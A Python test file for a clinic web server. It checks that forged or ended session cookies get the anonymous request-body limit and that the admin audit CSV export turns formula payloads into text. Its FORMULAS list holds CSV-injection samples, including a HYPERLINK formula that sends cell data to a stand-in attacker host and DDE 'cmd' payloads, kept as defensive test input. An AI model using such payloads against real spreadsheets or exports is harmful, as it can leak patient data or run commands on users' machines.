"""Attacks on the clinic server from issue 24, each failing before its fix: a forged cookie that
raised the body limit, formulas in the audit CSV, sign-in limits raced by a burst of attempts,
addresses told apart by the reply or its timing, an authenticator code used twice, and an older
password-reset link that still worked after a newer one."""

from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient

from tests.clinic.conftest import World, sign_in


def _json_of(size: int) -> bytes:
    """A JSON body of about `size` bytes (a check-in with a long note)."""
    return json.dumps({"pain": 2, "numbness": 3, "note": "x" * size}).encode()


def test_a_forged_cookie_gets_the_anonymous_body_limit(client: TestClient, world: World) -> None:
    big = _json_of(100 << 10)
    headers = {"Content-Type": "application/json"}
    client.cookies.set("glutewake_clinic", "x")
    forged = client.post("/api/checkins", content=big, headers=headers)
    assert forged.status_code == 413, forged.text
    assert "16 kB" in forged.json()["detail"]

    def chunks() -> object:  # no Content-Length: the limit holds as the body streams in
        for _ in range(64):
            yield b" " * (8 << 10)

    streamed = client.post("/api/checkins", content=chunks(), headers=headers)  # type: ignore[arg-type]
    assert streamed.status_code == 413
    small = client.post("/api/checkins", content=_json_of(100), headers=headers)
    assert small.status_code == 401, "a small body reaches the route, which says to sign in"

    sign_in(client, world.store, world.pat)
    real = client.post("/api/checkins", content=big, headers=headers)
    assert real.status_code != 413, "a real session may send more than 16 kB"
    assert real.status_code < 500
    again = client.post("/api/checkins", content=big, headers=headers)
    assert again.status_code != 413
    huge = client.post("/api/data", content=b"[" + b"0," * (1 << 20) + b"0]", headers=headers)
    assert huge.status_code == 413, "the clinic has no import: 1 MB at most, even signed in"


def test_a_half_signed_in_or_ended_session_gets_the_anonymous_body_limit(
    client: TestClient, world: World
) -> None:
    from glutewake.identity import credentials

    half = credentials.new_token()
    world.store.start_session(credentials.digest(half), world.cleo.id, "second_factor", "test")
    client.cookies.set("glutewake_clinic", half)
    headers = {"Content-Type": "application/json"}
    assert client.post("/api/checkins", content=_json_of(100 << 10), headers=headers).status_code == 413
    sign_in(client, world.store, world.pat)
    cookie = client.cookies.get("glutewake_clinic")
    assert cookie
    world.store.end_session(world.pat.id, credentials.digest(cookie))
    assert client.post("/api/checkins", content=_json_of(100 << 10), headers=headers).status_code == 413


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_cell_of_the_audit_csv_is_text_never_a_formula(client: TestClient, world: World) -> None:
    for n, name in enumerate(FORMULAS):
        patient = world.store.add_account(
            world.cleo.clinic_id, "patient", name, birth_year=1980, clinicians=(world.cleo.id,)
        )
        sign_in(client, world.store, world.cleo)
        assert client.get(f"/staff/patients/{patient.id}").status_code == 200, n
    sign_in(client, world.store, world.admin)
    exported = client.get("/admin/audit.csv")
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.text, newline="")))
    cells = [cell for row in table[1:] for cell in row if cell]
    assert len(cells) > 4 * len(FORMULAS)  # the patient's name is in the row of each read
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    for name in FORMULAS:
        assert f"'{name}" in cells, f"kept whole, behind a quote: {name!r}"
